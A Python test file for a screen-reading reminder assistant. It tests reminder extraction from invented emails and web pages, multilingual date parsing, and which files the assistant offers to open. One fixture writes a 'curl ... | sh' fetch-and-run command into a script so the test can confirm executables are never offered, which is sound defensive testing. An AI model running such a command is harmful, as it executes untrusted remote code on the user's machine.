        if any(marker in str(getattr(a, "content", a)) or marker in str(getattr(a, "window_title", ""))
               for a in args):
            raised.append(seam)
            raise ValueError(f"cannot read {marker}")
        return real(*args, **kwargs)

    monkeypatch.setattr(detectors, seam, failing_on_the_marker)
    with caplog.at_level("DEBUG", logger="propositions.suggest"):
        made = suggester(store, clock).run(force=True)
    assert raised, f"the detector never read the marked observation through {seam}"
    titles = {s.title for s in made}
    assert {"reminder", "resume_work", "follow_up"} <= {s.kind for s in made}
    assert clean <= titles  # everything the failure did not touch was still made
    failures = [r for r in caplog.records if r.levelname == "WARNING"]
    assert failures, "the failure is logged"
    for record in caplog.records:
        assert "Zanzibar" not in record.getMessage()  # never the screen text
    assert any("observation" in r.getMessage() for r in failures)


def test_only_documents_are_offered_to_open(store: Store, clock: FakeClock, tmp_path: Path) -> None:
    """A path read off the screen can name a program: such a file is never offered to open."""
    script = tmp_path / "deploy-draft.command"  # what macOS `open` runs in a terminal
    script.write_text("curl https://example.org/x | sh\n")
    tool = tmp_path / "build-wip"
    tool.write_text("#!/bin/sh\n")
    tool.chmod(0o755)
    doc = tmp_path / "plan-draft.md"
    doc.write_text("# Plan\n")
    for path in (script, tool, doc):
        for minutes in (200, 190):
            see(store, f"modified {path}", app="", title=str(path), ago=minutes * 60, observer="files")
    see(store, "", app="gedit", title=f"*{tool} - gedit", ago=3 * HOUR, observer="window")
    see(store, "", app="TextEdit", title=f"TODO {script} - TextEdit", ago=3 * HOUR, observer="window")
    opened = [c.action.path for c in suggester(store, clock).candidates(NOW) if c.action.type == "open_file"]
    assert opened == [str(doc)]


# -- a real morning: the reminders a person wants, and none of the noise ----------------------

# Monday 7 December 2026, 13:50 local time.
SESSION_NOW = datetime(2026, 12, 7, 13, 50).timestamp()


def menu_bar(app: str, at: str) -> str:
    """The top line of a macOS screenshot's text: the app's menus and the clock."""
    return f"{app} File Edit View Window Help    Mon 7 Dec {at}\n"


def desktop_session(store: Store) -> None:
    """What the screen observer read on a real desktop one morning (OCR text, menu bar included)."""
    def seen(at: str, app: str, title: str, content: str, url: str | None = None) -> None:
        h, m = map(int, at.split(":"))
        store.enqueue([Observation(captured_at=datetime(2026, 12, 7, h, m).timestamp(), observer="screen",
                                   app=app, window_title=title, url=url, content=menu_bar(app, at) + content)])

    seen("09:12", "Thunderbird", "Booking confirmation #48213 - Inbox - Thunderbird", (
        "From: Pedal & Chain Workshop <bookings@pedalandchain.example>\n"
        "To: Dana Reyes <dana@example.org>\n"
        "Subject: Booking confirmation #48213\n\n"
        "Hi Dana,\n"
        "Thank you for choosing Pedal & Chain. Your bike service is booked for Thursday 10 December, 10:00.\n"
        "Please bring the bike ten minutes early and remove any bags and lights.\n"
        "To change or cancel, reply to this e-mail.\n"
        "Pedal & Chain · Rua do Ouro 88 · Lisbon"))
    seen("10:40", "Firefox", "Casa do Rio Hotel – Manage your booking — Mozilla Firefox", (
        "Casa do Rio Hotel – Manage your booking\n"
        "Booking confirmed\n"
        "Confirmation number: 3381 204 557\n"
        "Guest: Dana Reyes\n"
        "Check-in: Saturday 19 December 2026, from 15:00\n"
        "Check-out: Monday 21 December 2026, until 11:00\n"
        "Room: Double room with river view\n"
        "Payment: your deposit of €120 is due by Friday. The balance is paid at the hotel.\n"
        "Free cancellation until Wednesday 16 December."),
        url="https://www.casadorio.example/booking/3381204557")
    seen("11:05", "Firefox", "Lisbon metro strike to halt trains on Thursday - Lisbon News — Mozilla Firefox", (
        "Lisbon metro strike to halt trains on Thursday\n"
        "By Ana Lopes · 7 December 2026, 10:31\n"
        "Metro workers will strike on Thursday 10 December between 06:00 and 11:00, the union said "
        "in a statement. Commuters are advised to use buses and trains instead."),
        url="https://news.example.pt/lisbon/metro-strike")
    seen("12:30", "Slack", "cycling-club - Slack", (
        "# cycling-club\n"
        "Yesterday\n"
        "Marta Silva  18:02\n"
        "great ride today, thanks all!\n"
        "Today\n"
        "João Pires  09:41\n"
        "anyone up for a ride on Saturday morning?\n"
        "Marta Silva  Mon 7 Dec 09:58\n"
        "can't, family lunch\n"
        "Rui Costa  10:02\n"
        "I'm in if it doesn't rain"))
    seen("13:20", "Code", "sync.log — photo-backup — Visual Studio Code", (
        "2026-12-07 13:02:11,204 INFO  sync: started, 214 files to upload\n"
        "2026-12-07 13:02:15,911 WARN  sync: retrying upload of IMG_2231.jpg in 30 s\n"
        "2026-12-07 13:03:02,004 INFO  sync: finished, next run scheduled for 2026-12-08 13:02:11"))
    seen("13:49", "Thunderbird", "Inbox - Thunderbird", (
        "Today\n"
        "Pedal & Chain Workshop   Booking confirmation #48213   09:12\n"
        "Yesterday\n"
        "Casa do Rio Hotel   Your stay on 19 December   Sun 6 Dec 17:40"))


def test_a_mornings_real_reminders_are_made_with_the_defaults_and_nothing_else(
        store: Store, clock: FakeClock) -> None:
    from gumd.settings import SuggestionSettings

    desktop_session(store)
    clock.now = SESSION_NOW
    made = Suggester(store, SuggestionSettings().config(), clock=clock, user="Dana Reyes").run()
    assert sorted(s.title for s in made) == [
        "Bike service — Thu 10 Dec, 10:00",
        "Pay the deposit of €120 by Fri 11 Dec",
    ]
    by_title = {s.title: s for s in made}
    bike = by_title["Bike service — Thu 10 Dec, 10:00"]
    assert bike.kind == "reminder" and bike.due_at == datetime(2026, 12, 10, 10, 0).timestamp()
    assert bike.action["title"] == "Bike service" and bike.action["lead_minutes"] == 30
    deposit = by_title["Pay the deposit of €120 by Fri 11 Dec"]
    assert deposit.action["title"] == "Pay the deposit of €120"
    assert deposit.due_at == datetime(2026, 12, 11, 9, 0).timestamp()
    for s in made:
        assert s.scores["eu"] >= s.scores["threshold"] == 0.5
    # The clocks, the chat's and the log's timestamps never even become candidates; the chat's
    # plan and the news are candidates, and score as what they are: someone else's.
    reminders = [c for c in Suggester(store, SuggestionSettings().config(), clock=clock).candidates(clock.now)
                 if c.kind == "reminder"]
    assert sorted(datetime.fromtimestamp(c.due_at) for c in reminders) == [
        datetime(2026, 12, 10, 9, 0), datetime(2026, 12, 10, 10, 0), datetime(2026, 12, 11, 9, 0),
        datetime(2026, 12, 12, 9, 0)]
    others = [c for c in reminders if c.title not in by_title]
    assert {c.title for c in others} == {"Lisbon metro strike to halt trains — Thu 10 Dec",
                                         "Anyone up for a ride — Sat 12 Dec"}
    assert all(c.p_useful <= 0.3 for c in others)


# Appointments and deadlines in other words, places and clocks: nothing above is special.
@pytest.mark.parametrize("app, title, text, expected", [
    ("Firefox", "Sorriso Dental – Your appointment",
     "Appointment confirmed\nService: Dental check-up\nDate: Tuesday 8 December\nTime: 14h30\n"
     "Clinic: Sorriso, Av. da Liberdade 12", "Dental check-up — Tue 8 Dec, 14:30"),
    ("Mail", "See you soon - Mail", "From: Barber Joe <hi@barberjoe.example>\nSubject: See you soon\n\n"
     "Reminder: your haircut at Barber Joe is on Saturday at 11:30.", "Haircut at Barber Joe — Sat 12 Dec, 11:30"),
    ("Mail", "Reservation - Mail", "From: Cervejaria Ramiro <book@ramiro.example>\nSubject: Reservation\n\n"
     "Your table for 4 at Cervejaria Ramiro is booked for Wednesday 9 December at 20:30.",
     "Table for 4 at Cervejaria Ramiro — Wed 9 Dec, 20:30"),
    ("Mail", "Your booking - Mail", "From: Oficina Auto <info@oficina.example>\nSubject: Your booking\n\n"
     "Your car inspection is booked for Tuesday at 9.", "Car inspection — Tue 8 Dec, 9:00"),
    ("Firefox", "SNS 24 – Appointments", "Your flu vaccination appointment: Thursday 10 December, 16:15\n"
     "Health centre: Lapa", "Flu vaccination appointment — Thu 10 Dec, 16:15"),
    ("Mail", "Timesheets - Mail", "From: HR <hr@work.example>\nSubject: Timesheets\n\n"
     "Your timesheet for November must be submitted by Friday 11 December.",
     "Submit the timesheet for November by Fri 11 Dec"),
    ("Mail", "Dinner - Mail", "From: Priya <priya@example.org>\nSubject: Dinner\n\n"
     "Looking forward to dinner on Friday at 7:30 pm — I booked the table.",
     "Dinner — Fri 11 Dec, 7:30 pm"),
])
def test_appointments_and_deadlines_in_any_words(store: Store, clock: FakeClock, app: str, title: str,
                                                 text: str, expected: str) -> None:
    from gumd.settings import SuggestionSettings

    clock.now = SESSION_NOW
    see(store, menu_bar(app, "12:50") + text, app=app, title=title, ago=HOUR)
    made = Suggester(store, SuggestionSettings().config(), clock=clock, user="Dana Reyes").run()
    assert [s.title for s in made if s.kind == "reminder"] == [expected]


def test_review_says_what_became_of_every_candidate(store: Store, clock: FakeClock) -> None:
    scenario(store)
    see(store, "Lisbon News\nMetro workers will strike on Friday, the union said.", app="Firefox",
        title="Metro strike - Lisbon News - Firefox", url="https://news.example.pt/metro", ago=HOUR)
    sugg = suggester(store, clock, max_per_hour=1)
    typing = sugg.review(focus=FocusState(last_input_s_ago=1, input_rate=200))
    assert {v.outcome for v in typing} == {"held back: you were typing", "below the threshold"}
    assert store.list_suggestions() == []
    quiet = suggester(store, clock, quiet_hours=(9, 12))  # it is 10:00
    assert {v.outcome for v in quiet.review() if v.scores["eu"] >= v.scores["threshold"]} == {
        "held back: quiet hours"}
    assert quiet.run() == [] and store.list_suggestions() == []
    verdicts = sugg.review()
    assert [v.outcome for v in verdicts].count("made") == 1
    assert verdicts[0].outcome == "made" and verdicts[0].candidate.kind == "reminder"  # the best first
    assert {v.outcome for v in verdicts[1:] if v.scores["eu"] >= v.scores["threshold"]} == {
        "held back: the hourly limit"}
    news = next(v for v in verdicts if "Metro workers" in v.candidate.title)
    assert news.outcome == "below the threshold" and "news, not your plans" in news.candidate.why
    again = {v.candidate.title: v for v in sugg.review(force=True)}
    first = again[verdicts[0].candidate.title]
    assert first.outcome == "made before" and first.suggestion.id == verdicts[0].suggestion.id


def test_dates_in_spanish_german_french_and_portuguese() -> None:
    seen = datetime(2026, 10, 20, 9, 0)  # a Tuesday
    d = lambda y, m, day: datetime(y, m, day).date()  # noqa: E731
    assert dates_in("la cita es el 13 de noviembre de 2026", seen) == [d(2026, 11, 13)]
    assert dates_in("Termin am 12. November", seen) == [d(2026, 11, 12)]
    assert dates_in("rendez-vous le 3 décembre", seen) == [d(2026, 12, 3)]
    assert dates_in("entrega até 27/10/2026", seen) == [d(2026, 10, 27)]
    assert dates_in("Abgabe 27.10.2026", seen) == [d(2026, 10, 27)]
    assert dates_in("reunião seg. 26/10", seen) == [d(2026, 10, 26)]
    assert dates_in("jantar na quarta-feira, dia 28", seen) == [d(2026, 10, 28)]
    assert dates_in("rendez-vous jeudi 22", seen) == [d(2026, 10, 22)]
    # A day over 12 settles the order; a US-style date still reads.
    assert dates_in("due 10/27/2026", seen) == [d(2026, 10, 27)]
    # Not dates: versions, fractions, scores, short forms that are also names and words.
    assert dates_in("upgrade to 3.12 now", seen) == []
    assert dates_in("won 2/1 on Sunday night", seen) == [d(2026, 10, 25)]
    assert dates_in("Sam 14 was here", seen) == []
    assert dates_in("Mer 3 and more", seen) == []
